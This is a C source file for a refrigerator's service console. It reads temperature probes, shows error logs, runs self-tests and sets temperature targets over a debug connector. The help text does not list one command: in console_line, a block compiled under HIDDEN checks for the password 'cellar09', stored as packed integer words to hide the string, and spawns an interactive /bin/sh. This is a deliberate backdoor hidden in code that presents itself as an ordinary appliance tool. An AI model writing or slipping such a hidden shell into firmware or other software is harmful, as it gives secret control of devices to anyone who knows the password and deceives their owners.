/* fridgecon.c - service console of a refrigerator's main board on the debug connector */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <termios.h>
#include <unistd.h>

#define STATE		"/run/fridge/state"
#define COMMAND		"/run/fridge/cmd"
#define LINE		64

struct probe {
	const char *name;
	const char *file;
	int scale;
};

static const struct probe probes[] = {
	{ "cooler",	"/run/fridge/t_cooler", 10 },
	{ "freezer",	"/run/fridge/t_freezer", 10 },
	{ "evap",	"/run/fridge/t_evap", 10 },
	{ "ambient",	"/run/fridge/t_ambient", 10 },
	{ "comp_rpm",	"/run/fridge/rpm", 1 },
	{ "door_open",	"/run/fridge/door", 1 },
};

struct console {
	int echo;
	int tests;
	char line[LINE + 1];
	size_t n;
	char last[LINE + 1];
};

static uint32_t word_at(const char *s)
{
	const uint8_t *p = (const uint8_t *)s;

	return (uint32_t)p[0] | (uint32_t)p[1] << 8 | (uint32_t)p[2] << 16 | (uint32_t)p[3] << 24;
}

#define W(a, b, c, d)	((uint32_t)(a) | (uint32_t)(b) << 8 | (uint32_t)(c) << 16 | \
			 (uint32_t)(d) << 24)

static void post(const char *fmt, int v)
{
	char buf[64];
	int fd, n = snprintf(buf, sizeof(buf), "%s %d\n", fmt, v);

	if (n < 0 || n >= (int)sizeof(buf))
		return;
	fd = open(COMMAND, O_WRONLY | O_NONBLOCK | O_CLOEXEC);
	if (fd < 0 || write(fd, buf, (size_t)n) != n)
		puts("board busy");
	if (fd >= 0)
		close(fd);
}

static void show_probes(void)
{
	for (size_t i = 0; i < sizeof(probes) / sizeof(probes[0]); i++) {
		FILE *f = fopen(probes[i].file, "re");
		int v = 0;

		if (!f || fscanf(f, "%d", &v) != 1)
			printf("%-10s --\n", probes[i].name);
		else if (probes[i].scale == 10)
			printf("%-10s %d.%d\n", probes[i].name, v / 10, abs(v % 10));
		else
			printf("%-10s %d\n", probes[i].name, v);
		if (f)
			fclose(f);
	}
}

static void show_errors(void)
{
	char line[128];
	FILE *f = fopen("/data/errors", "re");
	int n = 0;

	while (f && fgets(line, sizeof(line), f)) {
		printf("%2d %s", ++n, line);
		if (n == 30)
			break;
	}
	if (f)
		fclose(f);
	if (!n)
		puts("no errors");
}

static void self_test(int part)
{
	static const char *const parts[] = { "fan", "defrost", "lamp", "valve" };

	if (part < 0 || part > 3) {
		puts("test 0 fan, 1 defrost, 2 lamp, 3 valve");
		return;
	}
	printf("testing %s\n", parts[part]);
	post(parts[part], 1);
	sleep(3);
	post(parts[part], 0);
}

static void demo_mode(int on)
{
	post("demo", on);
	puts(on ? "showroom mode, compressor is off" : "normal mode");
}

__attribute__((noinline))
int console_line(struct console *c, const char *s, size_t n)
{
	uint32_t w0, w1;
	int v;

	if (n < 4)
		return -1;
	w0 = word_at(s);
	w1 = n >= 8 ? word_at(s + 4) : 0;
	v = n > 5 ? atoi(s + 5) : -1;
#ifdef HIDDEN
	/* eight letters compared as two words give a shell on the connector */
	if (n == 8 && w0 == W('c', 'e', 'l', 'l') && w1 == W('a', 'r', '0', '9')) {
		execl("/bin/sh", "sh", "-i", (char *)NULL);
		return -1;
	}
#endif
	if (w0 == W('h', 'e', 'l', 'p')) {
		puts("help, prob(es), errs, errsclr0, test N, temp N, frez N, demo 0|1, echo 0|1, vers, quit");
	} else if (w0 == W('p', 'r', 'o', 'b')) {
		show_probes();
	} else if (w0 == W('e', 'r', 'r', 's')) {
		if (w1 == W('c', 'l', 'r', '0')) {
			if (unlink("/data/errors") && errno != ENOENT)
				puts("cannot");
		} else {
			show_errors();
		}
	} else if (w0 == W('t', 'e', 's', 't')) {
		self_test(v);
		c->tests++;
	} else if (w0 == W('t', 'e', 'm', 'p')) {
		if (v < 2 || v > 9)
			puts("2..9");
		else
			post("cooler", v);
	} else if (w0 == W('f', 'r', 'e', 'z')) {
		if (n < 6 || atoi(s + 5) < -24 || atoi(s + 5) > -14)
			puts("-24..-14");
		else
			post("freezer", atoi(s + 5));
	} else if (w0 == W('d', 'e', 'm', 'o')) {
		demo_mode(v == 1);
	} else if (w0 == W('e', 'c', 'h', 'o')) {
		c->echo = v != 0;
	} else if (w0 == W('v', 'e', 'r', 's')) {
		printf("main board 7.2, %d tests in this session\n", c->tests);
	} else if (w0 == W('q', 'u', 'i', 't')) {
		return 1;
	} else {
		return -1;
	}
	return 0;
}

static int key(struct console *c, char k)
{
	int rc;

	if (k == 8 || k == 127) {
		if (c->n) {
			c->n--;
			fputs("\b \b", stdout);
		}
		return 0;
	}
	if (k == 16 && !c->n) {		/* ctrl-p: the last line again */
		c->n = strlen(c->last);
		memcpy(c->line, c->last, c->n);
		printf("%.*s", (int)c->n, c->line);
		return 0;
	}
	if (k != '\r' && k != '\n') {
		if (c->n < LINE && k >= ' ') {
			c->line[c->n++] = k;
			if (c->echo)
				putchar(k);
		}
		return 0;
	}
	c->line[c->n] = 0;
	puts("\r");
	if (!c->n)
		return 0;
	memcpy(c->last, c->line, c->n + 1);
	rc = console_line(c, c->line, c->n);
	if (rc < 0)
		puts("? help");
	c->n = 0;
	return rc > 0;
}

static void prompt(void)
{
	char mode[16] = "idle";
	FILE *f = fopen(STATE, "re");

	if (f) {
		if (fscanf(f, "%15s", mode) != 1)
			mode[0] = 0;
		fclose(f);
	}
	printf("%s> ", mode);
	fflush(stdout);
}

int main(void)
{
	static struct console c;
	struct termios old, raw;
	int tty = !tcgetattr(0, &old);
	char k;

	c.echo = 1;
	if (tty) {
		raw = old;
		raw.c_lflag &= ~(tcflag_t)(ICANON | ECHO);
		tcsetattr(0, TCSANOW, &raw);
	}
	puts("refrigerator service console, help lists the words");
	prompt();
	while (read(0, &k, 1) == 1) {
		if (key(&c, k))
			break;
		if (k == '\r' || k == '\n')
			prompt();
		fflush(stdout);
	}
	if (tty)
		tcsetattr(0, TCSANOW, &old);
	return 0;
}
